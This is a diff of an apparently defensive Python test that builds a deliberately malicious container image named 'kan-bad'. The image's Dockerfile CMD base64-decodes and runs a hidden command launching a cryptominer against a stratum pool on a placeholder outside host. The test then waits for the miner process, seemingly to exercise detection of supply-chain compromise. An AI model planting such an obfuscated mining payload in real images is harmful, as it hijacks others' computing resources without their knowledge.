@@ -148,7 +148,7 @@ def supply_chain():
     text = world.base64.b64encode(f"/usr/local/bin/helper -o stratum+tcp://{OUTSIDE}:3333 -u {WALLET} &\nexec nginx\n".encode()).decode()
     (context / "Dockerfile").write_text("FROM kan-nginx\nCOPY helper /usr/local/bin/helper\nHEALTHCHECK NONE\n"
                                         f'CMD ["sh", "-c", "echo {text} | base64 -d | exec sh"]\n')
-    docker("build", "-q", "--network", "none", "-t", "kan-bad", context)
+    world.build("kan-bad", context, "--network", "none")
     outside()
     start("in-supply", "bad")
     wait_for_process("in-supply", "/usr/local/bin/helper")
